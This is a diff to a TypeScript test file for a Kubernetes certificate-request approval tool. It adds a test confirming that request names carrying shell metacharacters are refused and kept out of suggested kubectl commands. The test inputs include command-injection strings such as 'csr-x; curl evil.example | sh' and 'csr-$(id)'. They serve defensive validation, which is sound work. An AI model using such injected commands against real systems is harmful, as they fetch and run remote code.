@@ -4,6 +4,7 @@ import type { Instance } from "../../../../client/gce/resources.ts";
 import { generateKeys } from "../../../../client/pki/keys.ts";
 import { type ApproveOptions, approvePending, resultErrors } from "../../../../client/serving-certificates/approve.ts";
 import { outcomeOf, resultDocument, resultText } from "../../../../client/serving-certificates/report.ts";
+import { pathOf } from "../../../../client/serving-certificates/requests.ts";
 import { watchRequests } from "../../../../client/serving-certificates/watch.ts";
 import { KhwError } from "../../../../proto/errors.ts";
 import type { KubernetesApi } from "../../../../proto/kubernetes-api.ts";
@@ -241,6 +242,36 @@ for (const [title, options, reason] of attacks) {
     t.match(error, { code: "CREDENTIAL_INVALID", message: reason, hint: /kubectl certificate deny csr-1/ });
   });
 }
+
+t.test("a name that a shell could run is refused, and never part of a command", async (t) => {
+  const names = [
+    "csr-x; curl evil.example | sh",
+    "csr-$(id)",
+    "csr-1\n",
+    "csr-1?a",
+    "csr-1#a",
+    "-f",
+    "x".repeat(254),
+    "",
+  ];
+  for (const name of names) {
+    const { results, calls } = await run([await requestObject({ name })]);
+    t.strictSame(results.map(outcomeOf), ["refused"], name);
+    t.equal(calls.length, 1, name);
+    const [error] = resultErrors(results);
+    t.match(error, { code: "CREDENTIAL_INVALID", message: /its name is not only lower-case letters/ }, name);
+    t.notMatch(error?.hint, /kubectl|csr-/, name);
+    t.ok(
+      results.every((result) => resultText(result).startsWith('"')),
+      name,
+    );
+  }
+  t.match(pathOf({ name: "a?b#c" }), /\/a%3Fb%23c$/);
+  const stranger = await run([await requestObject({ name: "a;b", username: "system:bootstrap:abcdef" })]);
+  t.match(resultErrors(stranger.results), [
+    { message: /^"a;b" is refused: its name .*; its requestor .* not a kubelet/ },
+  ]);
+});
 
 t.test("a request for another signer is left alone", async (t) => {
   const signers = ["kubernetes.io/kube-apiserver-client-kubelet", "kubernetes.io/legacy-unknown"];
